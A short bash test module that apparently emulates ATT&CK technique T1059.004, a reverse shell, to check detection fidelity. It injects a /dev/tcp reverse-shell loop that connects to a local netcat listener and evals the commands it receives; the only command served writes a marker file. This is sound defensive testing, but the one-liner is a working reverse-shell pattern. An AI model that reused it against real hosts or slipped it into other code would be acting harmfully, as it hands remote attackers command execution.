# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059.004
about="the script's shell connects to the attacker (/dev/tcp) and obeys"
attack() {
	echo 'echo here > /var/tmp/fidelity/marker/was-here' | nc -N -l 127.0.0.1 4445 &
	listening 4445
	inject 'exec 5<>/dev/tcp/127.0.0.1/4445; while read -r line <&5; do eval "$line"; done'
	kill %% 2>/dev/null
}
effect() { [ -e "$marker" ]; }
